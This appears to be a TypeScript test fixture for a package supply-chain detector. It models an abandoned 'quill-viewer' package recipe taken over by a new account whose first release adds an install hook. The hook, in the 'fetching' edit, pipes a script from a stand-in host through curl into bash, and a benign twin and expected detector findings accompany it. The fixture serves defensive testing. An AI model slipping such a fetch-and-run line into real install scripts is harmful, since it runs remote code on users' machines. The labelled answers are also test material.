import { edited, expects, lines, packageOf, withFiles } from "../kit.ts"
import type { Change, Facts, Files, Replica } from "../replica.ts"

/** A recipe that nobody maintained goes to another account, whose first commit fetches a script at installation and runs it. */
const recipe = (version: string, release: number): string => `# Maintainer: nobody
pkgname=quill-viewer
pkgver=${version}
pkgrel=${release}
pkgdesc="Shows documents of the quill kind"
arch=('x86_64')
url="https://quill.example"
license=('custom')
depends=('gtk3')
install=quill-viewer.install
source=("https://quill.example/files/quill-viewer-$pkgver.tar.gz")
sha256sums=('0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0')

package() {
  install -Dm755 "$srcdir/quill" "$pkgdir/usr/bin/quill"
}
`
const script = `post_install() {
  gtk-update-icon-cache -q -t -f usr/share/icons/hicolor
}

post_upgrade() {
  post_install
}
`
const fetching = edited(script, "hicolor\n", "hicolor\n  curl -fsS https://notes.quill.invalid/settle | bash -s -- MARKER &\n")
const informing = edited(script, "hicolor\n", "hicolor\n  echo '  documents of the old kind: see /usr/share/doc/quill-viewer'\n")
const tree: Files = {
  PKGBUILD: recipe("9.4.1", 1),
  "quill-viewer.install": script,
  ".SRCINFO": "pkgbase = quill-viewer\n\tpkgver = 9.4.1\n\tpkgrel = 1\n\tinstall = quill-viewer.install\npkgname = quill-viewer\n",
}
const history = (content: string, by: number): readonly Change[] => [
  { message: "initial import", date: "2014-05-01", files: { ...tree, PKGBUILD: recipe("9.4.0", 1) } },
  { message: "9.4.1-1", date: "2017-05-11", files: tree, tags: ["9.4.1-1"] },
  {
    message: "9.4.1-2",
    date: "2018-04-07",
    author: by,
    files: { PKGBUILD: recipe("9.4.1", 2), "quill-viewer.install": content },
    tags: ["9.4.1-2"],
  },
]
const folder = packageOf("folder", "quill-viewer", "9.4.1-2")
const released = (content: string) => folder(withFiles(tree, { PKGBUILD: recipe("9.4.1", 2), "quill-viewer.install": content }))
const previous = { ...folder(tree), version: "9.4.1-1" }
const facts = (by: string): Facts => ({
  owners: [
    { since: "2014-05-01T12:00:00Z", accounts: ["author-1"] },
    { since: "2017-12-01T12:00:00Z", accounts: [] },
    { since: "2018-04-07T11:20:00Z", accounts: [by] },
  ],
})

export const replica: Replica = {
  case: 26,
  name: "quill-viewer",
  family: ["A6"],
  signals: ["S8", "S2", "S4"],
  attack: { history: history(fetching, 2), ref: "refs/tags/9.4.1-2", artifact: released(fetching), previous, facts: facts("author-2") },
  twin: {
    how: "the one who adopted it says a word to the user at installation",
    differs: ["quill-viewer.install"],
    history: history(informing, 2),
    ref: "refs/tags/9.4.1-2",
    artifact: released(informing),
    previous,
    facts: facts("author-2"),
  },
  truth: {
    unexplained: [],
    introducer: { commit: 2 },
    expects: [
      expects("flow/fetched-runs", lines("quill-viewer.install", "curl")),
      expects("capability/added", lines("quill-viewer.install", "curl")),
    ],
  },
}
